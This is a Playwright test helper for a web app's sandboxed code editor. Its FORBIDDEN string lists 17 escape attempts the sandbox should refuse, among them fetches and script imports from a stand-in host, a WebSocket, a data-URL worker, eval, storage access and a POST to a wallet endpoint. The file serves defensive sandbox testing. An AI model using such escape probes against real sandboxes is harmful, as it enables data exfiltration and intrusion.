import { expect, type Page } from "@playwright/test";
import { type Site, transportOf } from "./site.ts";

const code = (page: Page) => page.getByRole("textbox", { name: /^Code: / });

/** Replaces the code by pasting: typed text would get the editor's indentation. */
export async function enterCode(page: Page, text: string): Promise<void> {
  await code(page).press("ControlOrMeta+a");
  await code(page).evaluate((editor, pasted) => {
    const clipboardData = new DataTransfer();
    clipboardData.setData("text/plain", pasted);
    editor.dispatchEvent(new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true }));
  }, text);
}

/** Code that tries whatever would leave the page or run a text, and says how much of it was refused: all 17. */
export const FORBIDDEN = `const { BASE_URL } = process.env;
const { fetch: native = fetch, importScripts: load } = Object.getPrototypeOf(Object.getPrototypeOf(self));
const tries = [
  () => fetch("https://elsewhere.example/"),
  () => fetch(BASE_URL + "/index.html"),
  () => fetch(BASE_URL + "/v1/../index.html"),
  () => native.call(self, BASE_URL + "/v1/wallet"),
  () => native.call(self, BASE_URL + "/v1/wallet", { mode: "no-cors", method: "POST", body: "x" }),
  () => load.call(self, "https://elsewhere.example/x.js"),
  () => importScripts("https://elsewhere.example/x.js"),
  () => new WebSocket("wss://elsewhere.example/"),
  () => new XMLHttpRequest(),
  () => new Worker("data:text/javascript,fetch('https://elsewhere.example/')"),
  () => import("https://elsewhere.example/x.js"),
  () => import("data:text/javascript,export default 1"),
  () => eval("1"),
  () => new Promise((ok, no) => Object.assign(indexedDB.open("x"), { onsuccess: ok, onerror: no })),
  () => caches.keys(),
  () => { localStorage.x = 1; },
  () => postMessage(1),
];
let refused = 0;
for (const each of tries) await (async () => each())().catch(() => refused++);
console.log("refused " + refused + " of " + tries.length);
`;

/** Opens the page of recipes, which responds by its worker or in the page itself. */
export async function openRecipes(page: Page, site: Site, transport: "worker" | "page" = "worker"): Promise<void> {
  if (transport === "page") site.missing.add("/sandbox-worker.js");
  await page.goto(`${site.url}#/recipes`);
  expect(await transportOf(page)).toBe(transport);
}

export const everyFailure = (page: Page) => page.getByRole("region", { name: "Every failure" });

/** Presses Try every failure and waits for what came of it. */
export async function tryAll(page: Page): Promise<string> {
  await page.getByRole("button", { name: "Try every failure" }).click();
  await expect(page.getByRole("button", { name: "Run", exact: true })).toBeVisible({ timeout: 30_000 });
  return everyFailure(page).innerText();
}
